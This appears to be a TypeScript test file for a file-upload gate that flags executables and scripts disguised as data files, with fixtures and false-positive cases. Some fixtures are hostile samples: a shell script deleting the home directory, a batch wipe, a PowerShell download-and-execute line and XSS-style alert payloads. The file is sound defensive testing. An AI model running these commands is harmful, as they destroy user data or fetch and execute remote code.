import { readFile } from 'node:fs/promises';
import { gzipSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import { fullCodes, quick, quickCodes } from './gate-fixture.ts';

/** The headers that a Windows program begins with. */
function windowsProgram(): Buffer {
  const bytes = Buffer.alloc(512);
  bytes.write('MZ', 0, 'latin1');
  bytes.writeUInt32LE(128, 60);
  bytes.write('PE\0\0', 128, 'latin1');
  return bytes;
}

describe('programs', () => {
  test('the program that runs this is one, under any name', async () => {
    const node = await readFile(process.execPath);
    expect(quick(node.subarray(0, 100_000), 'orders.parquet')).toMatchObject({
      verdict: 'quarantined',
      findings: [{ code: 'EXECUTABLE_CONTENT', severity: 'error', offset: 0 }, { code: 'FORMAT_UNKNOWN' }],
    });
  });

  test.each([
    ['Windows', windowsProgram()],
    ['macOS', Buffer.from('cffaedfe07000001030000000200000010000000', 'hex')],
    ['macOS, of two processors', Buffer.from('cafebabe0000000201000007', 'hex')],
    ['Java', Buffer.from('cafebabe00000034001d0a00', 'hex')],
    ['WebAssembly', Buffer.from('0061736d01000000', 'hex')],
    ['Android', Buffer.from('dex\n035\0rest', 'latin1')],
    ['a shell', Buffer.from('#!/bin/sh\nrm -rf "$HOME"\n')],
    ['a shell, behind a byte order mark', Buffer.from('\uFEFF#! /usr/bin/env python\nprint()\n')],
  ])('%s', (_of, content) => {
    expect(quickCodes(content)).toContain('EXECUTABLE_CONTENT');
  });

  test('in gzip is found too', () => {
    expect(quickCodes(gzipSync('#!/bin/sh\nrm -rf "$HOME"\n'))).toContain('EXECUTABLE_CONTENT');
  });

  test.each([
    ['MZ,name\n1,Mozambique\n2,text text text text text text text text text text text text\n'],
    ['#!comment,b\n1,2\n'],
    ['#id,path\n1,#!/bin/sh\n'],
    ['PE,MZ\n1,2\n'],
  ])('%j is none', (content) => {
    expect(quickCodes(content)).toEqual([]);
  });
});

describe('scripts', () => {
  test.each([
    ['batch', '@echo off\r\ndel /q *\r\n'],
    ['PowerShell', '$client = New-Object Net.WebClient\nInvoke-Expression $client.DownloadString("http://x")\n'],
    ['PowerShell with parameters', 'param(\n[string]$a\n)\nWrite-Host $a\n'],
    ['VBScript', 'Dim shell\nSet shell = CreateObject("WScript.Shell")\nshell.Run "calc"\n'],
    ['JScript', 'var s = new ActiveXObject("WScript.Shell");\ns.Run("calc");\n'],
    ['HTML', '<!DOCTYPE html>\n<html><script>alert(1)</script></html>'],
    ['HTML with a handler', '<html><img src=x onerror=alert(1)></html>'],
    ['SVG', '<?xml version="1.0"?>\n<svg onload="alert(1)"></svg>'],
  ])('%s', (_of, content) => {
    expect(quickCodes(content, 'a.csv')).toContain('SCRIPT_CONTENT');
  });

  test.each([
    ['id,command\n1,Invoke-Expression $x\n2,@echo off\n3,CreateObject("WScript.Shell")\n'],
    ['id,html\n1,"<b onclick=""x()"">bold</b><script>a</script>"\n'],
    ['id,note\n1,"Dim the lights"\nSet,more\n'],
    ['@echo,b\n1,2\n'],
  ])('%j is data that speaks of them', (content) => {
    expect(quickCodes(content)).toEqual([]);
  });

  test('HTML whose script comes late is found at full depth', async () => {
    const content = `<html>${'<p>text</p>\n'.repeat(20_000)}<script>alert(1)</script>${'<p>text</p>\n'.repeat(20_000)}`;
    expect(quickCodes(content, 'a.html')).not.toContain('SCRIPT_CONTENT');
    expect(await fullCodes(content, 'a.html')).toContain('SCRIPT_CONTENT');
  });
});
